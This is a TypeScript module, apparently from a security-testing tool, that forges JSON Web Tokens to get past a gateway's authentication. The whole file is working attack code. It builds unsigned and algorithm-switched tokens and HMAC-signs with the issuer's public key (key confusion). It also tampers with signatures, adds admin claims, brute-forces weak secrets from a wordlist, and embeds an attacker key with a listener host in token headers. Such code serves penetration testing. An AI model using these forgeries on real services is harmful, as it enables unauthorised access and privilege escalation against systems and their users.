import { createHmac, createPublicKey, generateKeyPairSync, sign } from 'node:crypto'
import { outsideLines } from './outside.ts'

/** One way to attack a token that a gateway accepts. */
export interface Recipe {
  readonly id: string
  readonly header?: Readonly<Record<string, unknown>>
  /** What to sign with by HS256. */
  readonly key?: string
}

/** What an attacker has: a good token, an old one, the issuer's public key, and a server of their own. */
export interface Loot {
  readonly token: string
  readonly expired: string
  /** SPKI. */
  readonly pem: string
  /** Host and port. */
  readonly listener: string
  /** How many of the known secrets are passed over for each that is tried. */
  readonly stride: number
}

const attacker = generateKeyPairSync('rsa', { modulusLength: 2048 })
const attackerJwk = { ...attacker.publicKey.export({ format: 'jwk' }), kid: 'attacker', use: 'sig', alg: 'RS256' }

const part = (value: object) => Buffer.from(JSON.stringify(value)).toString('base64url')

const partsOf = (token: string) => {
  const [header = '', payload = '', signature = ''] = token.split('.')
  return { header, payload, signature }
}

function withMac(header: object, payload: string, key: string): string {
  const signed = `${part({ typ: 'JWT', alg: 'HS256', ...header })}.${payload}`
  return `${signed}.${createHmac('sha256', key).update(signed).digest('base64url')}`
}

function withRsa(header: object, payload: string): string {
  const signed = `${part({ typ: 'JWT', alg: 'RS256', ...header })}.${payload}`
  return `${signed}.${sign('sha256', Buffer.from(signed), attacker.privateKey).toString('base64url')}`
}

/** The texts that a public key is found in, with and without the newline at the end. */
function publicTexts(pem: string): string[] {
  const key = createPublicKey(pem)
  const pkcs1 = key.asymmetricKeyType === 'rsa' ? [String(key.export({ type: 'pkcs1', format: 'pem' }))] : []
  const forms = [pem, ...pkcs1].flatMap(form => [form, form.trimEnd(), `${form.trimEnd()}\n`])
  return [...forms, JSON.stringify(key.export({ format: 'jwk' }))]
}

function otherSignature(signature: string): string {
  const bytes = Buffer.from(signature, 'base64url')
  bytes[0] = (bytes[0] ?? 0) ^ 1
  return bytes.toString('base64url')
}

/** The claims with more rights than they had. */
function greedy(payload: string): string {
  const claims = JSON.parse(Buffer.from(payload, 'base64url').toString())
  return part({ ...claims, admin: true, roles: ['admin'], scope: `${claims.scope} order_item` })
}

/** Recipes that say in words what to do. Undefined stands for no token at all. */
const worded: Readonly<Record<string, (loot: Loot) => (string | undefined)[]>> = {
  'null-signature': ({ token }) => [`${partsOf(token).header}.${partsOf(token).payload}.`],
  'key-confusion-pem': ({ token, pem }) => publicTexts(pem).map(text => withMac({}, partsOf(token).payload, text)),
  'wrong-signature-disclosure': ({ token }) => {
    const { header, payload, signature } = partsOf(token)
    return [`${header}.${payload}.${otherSignature(signature)}`]
  },
  'unsigned-other-sig': ({ token }) => {
    const { header, payload, signature } = partsOf(token)
    return [`${header}.${greedy(payload)}.${signature}`]
  },
  'no-token': () => [undefined],
  expired: ({ expired }) => [expired],
  'weak-secret': ({ token, stride }) =>
    outsideLines('jwt-attacks', 'jwt.secrets.list')
      .filter((_, index) => index % stride === 0)
      .map(secret => withMac({}, partsOf(token).payload, secret)),
}

/** The header that a recipe names, its placeholders filled in. */
function headerOf({ header = {} }: Recipe, { listener }: Loot): Record<string, unknown> {
  const fill = (value: unknown) => {
    if (value === '<attacker jwk>') return attackerJwk
    return typeof value === 'string' ? value.replace(/<listener>(?::\d+)?/, listener) : value
  }
  return Object.fromEntries(Object.entries(header).map(([name, value]) => [name, fill(value)]))
}

/** The tokens that a recipe makes of what was looted. */
export function forge(recipe: Recipe, loot: Loot): readonly (string | undefined)[] {
  const made = Object.hasOwn(worded, recipe.id) ? worded[recipe.id] : undefined
  if (made !== undefined) return made(loot)
  const { payload } = partsOf(loot.token)
  const header = headerOf(recipe, loot)
  if (recipe.id.startsWith('alg-')) return [`${part({ typ: 'JWT', ...header })}.${payload}.`]
  if (recipe.key !== undefined) return [withMac(header, payload, recipe.key)]
  if (recipe.header === undefined) throw new Error(`nothing says how to carry out ${recipe.id}`)
  return [withRsa(header, payload), withMac({ ...header, alg: 'HS256' }, payload, '')]
}
